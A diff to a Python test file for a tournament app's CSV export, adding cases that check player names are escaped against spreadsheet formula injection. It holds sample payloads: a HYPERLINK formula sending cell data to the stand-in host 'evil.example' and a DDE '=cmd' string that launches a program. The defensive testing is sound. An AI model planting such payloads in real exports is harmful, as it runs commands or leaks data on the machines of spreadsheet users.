@@ -12,6 +12,7 @@ from tournaments.selectors import spreadsheet_safe
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 NAMES = [HYPERLINK, "-1+2", "+cmd", "@SUM(A1:A9)"]
+SEMICOLON = "a;=cmd|' /C calc'!A0"
 
 
 @pytest.mark.parametrize(
@@ -24,6 +25,15 @@ NAMES = [HYPERLINK, "-1+2", "+cmd", "@SUM(A1:A9)"]
         ("\tx", "'\tx"),
         ("\rx", "'\rx"),
         ("Ana-Marija", "Ana-Marija"),
+        # a formula character after a separator some locale splits on (issue 19)
+        ("a;=cmd|' /C calc'!A0", "a;'=cmd|' /C calc'!A0"),
+        ("a,+1", "a,'+1"),
+        ("a\t@x", "a\t'@x"),
+        ("a;-1;b", "a;'-1;b"),
+        ("=a;=b", "'=a;'=b"),
+        ("\t\tx", "'\t'\tx"),
+        ("a; -1", "a; -1"),
+        ("Smith, J.", "Smith, J."),
         ("", ""),
         (-3, -3),
         (-1.5, -1.5),
@@ -46,3 +56,24 @@ def test_standings_csv_neutralises_formula_names_and_keeps_negative_numbers(org_
     diffs = [row["point_diff"] for row in rows]
     assert any(diff.startswith("-") for diff in diffs), diffs  # a loser's negative difference
     assert all(diff.lstrip("-").isdigit() for diff in diffs), diffs  # no apostrophe on numbers
+
+
+@pytest.mark.django_db
+def test_no_cell_starts_with_a_formula_where_excel_splits_on_semicolons(org_api):
+    players = [PlayerFactory(display_name=SEMICOLON), PlayerFactory(display_name="Ana")]
+    pk = tournament_running(org_api, players, format="single_elimination")["id"]
+    play_all(org_api, pk)
+
+    text = org_api.get("tournaments:standing-csv", pk=pk).content.decode()
+    assert "a;'=cmd|' /C calc'!A0" in text
+    for line in text.splitlines():
+        for cell in line.split(";"):
+            assert not cell.startswith(("=", "+", "@")), line
+
+
+def test_spreadsheet_safe_examples():
+    import doctest
+
+    from tournaments import selectors
+
+    assert doctest.testmod(selectors).failed == 0
